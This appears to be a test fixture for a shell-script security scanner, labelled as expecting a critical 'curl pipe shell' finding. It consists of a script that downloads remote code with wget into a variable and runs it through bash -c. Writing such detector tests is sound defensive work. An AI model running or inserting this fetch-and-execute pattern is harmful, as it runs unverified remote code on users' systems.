# expect: shell.curl_pipe_shell critical
# note: a download kept in a variable, run by sh -c
# path: scripts/tp_download_var_sh_c.sh
#!/bin/sh
script=`wget -qO- https://get.example.net/i`; bash -c "${script}"
